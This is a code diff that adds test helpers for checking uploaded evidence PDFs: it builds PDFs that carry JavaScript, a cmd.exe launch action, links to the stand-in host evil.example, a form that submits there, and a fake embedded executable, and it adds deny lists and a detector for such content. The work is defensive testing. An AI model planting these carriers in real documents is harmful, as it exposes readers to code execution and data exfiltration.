@@ -575,3 +575,160 @@ def as_unit(text: str, unit: str) -> str:
     Why both: a batch takes two applications with one 统一社会信用代码 for one unit twice.
     """
     return text.replace(EXAMPLE_UNIT, unit).replace(EXAMPLE_CODE, credit_code(unit))
+
+
+# -- hostile evidence: every way a PDF can carry code, actions or files ---------------------------
+
+#: Each way an evidence PDF can carry something a viewer runs, opens or launches.
+HOSTILE_CARRIERS = (
+    "open-action-javascript",
+    "javascript-name-tree",
+    "page-additional-actions",
+    "link-uri",
+    "link-launch",
+    "link-javascript-chained",
+    "widget-submit-form",
+    "xfa-form",
+    "file-attachment",
+    "embedded-files-name-tree",
+    "rich-media",
+)
+
+#: Action types the bundle must not hold (an in-document /GoTo is harmless).
+_BAD_ACTIONS = {
+    "/JavaScript",
+    "/Launch",
+    "/URI",
+    "/SubmitForm",
+    "/ImportData",
+    "/ResetForm",
+    "/GoToR",
+    "/GoToE",
+    "/Rendition",
+    "/Sound",
+    "/Movie",
+    "/RichMediaExecute",
+}
+_BAD_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/XFA", "/AcroForm"}
+_BAD_TYPES = {"/EmbeddedFile", "/Filespec"}
+_BAD_SUBTYPES = {"/FileAttachment", "/Sound", "/Movie", "/Screen", "/RichMedia", "/3D"}
+
+
+def make_hostile_pdf(path: Path, carrier: str) -> Path:
+    """Write a one-page PDF whose text reads ``hostile <carrier>`` and that carries `carrier`."""
+    make_pdf(path, 1, label=f"hostile {carrier}")
+    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
+        page = pdf.pages[0].obj
+        js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+        rect = pikepdf.Array([72, 72, 300, 120])
+
+        def annot(subtype: str, **fields: object) -> pikepdf.Dictionary:
+            made = pdf.make_indirect(
+                pikepdf.Dictionary(
+                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=rect
+                )
+            )
+            for key, value in fields.items():
+                made[f"/{key}"] = value
+            page.Annots = pikepdf.Array([*page.get("/Annots", []), made])
+            return made
+
+        def embedded(name: str) -> pikepdf.Dictionary:
+            stream = pdf.make_stream(b"MZ\x90\x00 not a real program")
+            stream.Type = pikepdf.Name.EmbeddedFile
+            return pikepdf.Dictionary(
+                Type=pikepdf.Name.Filespec,
+                F=pikepdf.String(name),
+                UF=pikepdf.String(name),
+                EF=pikepdf.Dictionary(F=stream),
+            )
+
+        if carrier == "open-action-javascript":
+            pdf.Root.OpenAction = js
+        elif carrier == "javascript-name-tree":
+            pdf.Root.Names = pikepdf.Dictionary(
+                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js]))
+            )
+        elif carrier == "page-additional-actions":
+            page.AA = pikepdf.Dictionary(O=js, C=js)
+        elif carrier == "link-uri":
+            annot(
+                "/Link",
+                A=pikepdf.Dictionary(
+                    S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/")
+                ),
+            )
+        elif carrier == "link-launch":
+            launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
+            annot("/Link", A=launch)
+        elif carrier == "link-javascript-chained":
+            go = pikepdf.Dictionary(
+                S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]), Next=js
+            )
+            annot("/Link", A=go, AA=pikepdf.Dictionary(E=js))
+        elif carrier in ("widget-submit-form", "xfa-form"):
+            submit = pikepdf.Dictionary(
+                S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/collect")
+            )
+            field = pdf.make_indirect(
+                pikepdf.Dictionary(
+                    FT=pikepdf.Name.Btn, T=pikepdf.String("f"), AA=pikepdf.Dictionary(K=js)
+                )
+            )
+            widget = annot("/Widget", A=submit, Parent=field, F=4)
+            field.Kids = pikepdf.Array([widget])
+            form = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
+            if carrier == "xfa-form":
+                form.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
+            pdf.Root.AcroForm = form
+        elif carrier == "file-attachment":
+            annot("/FileAttachment", FS=embedded("payload.exe"), Contents=pikepdf.String("附件"))
+        elif carrier == "embedded-files-name-tree":
+            pdf.Root.Names = pikepdf.Dictionary(
+                EmbeddedFiles=pikepdf.Dictionary(
+                    Names=pikepdf.Array([pikepdf.String("payload.exe"), embedded("payload.exe")])
+                )
+            )
+        elif carrier == "rich-media":
+            annot("/RichMedia", RichMediaContent=pikepdf.Dictionary(Assets=embedded("a.swf")))
+        else:  # pragma: no cover - a new carrier needs its own builder
+            raise ValueError(carrier)
+        pdf.save(path)
+    return path
+
+
+def active_content(path: Path) -> list[str]:
+    """Return a description of everything in the PDF at `path` a viewer could run or open.
+
+    Every object reachable from the trailer is looked at, direct ones included (an action is
+    usually a direct dictionary inside an annotation).
+    """
+    found: list[str] = []
+    seen: set[tuple[int, int]] = set()
+
+    def walk(obj: object) -> None:
+        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
+            if obj.objgen in seen:
+                return
+            seen.add(obj.objgen)
+        if isinstance(obj, pikepdf.Array):
+            for item in obj:
+                walk(item)
+            return
+        dictionary = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
+        if not isinstance(dictionary, pikepdf.Dictionary):
+            return
+        found.extend(f"key {k}" for k in dictionary if k in _BAD_KEYS)
+        if dictionary.get("/S") in _BAD_ACTIONS:
+            found.append(f"action {dictionary.get('/S')}")
+        if dictionary.get("/Type") in _BAD_TYPES:
+            found.append(f"type {dictionary.get('/Type')}")
+        if dictionary.get("/Subtype") in _BAD_SUBTYPES:
+            found.append(f"annotation {dictionary.get('/Subtype')}")
+        for key in dictionary:
+            if key != "/Parent" or dictionary.get("/Type") != "/Page":  # pages link up the tree
+                walk(dictionary.get(key))
+
+    with pikepdf.open(path) as pdf:
+        walk(pdf.trailer)
+    return found
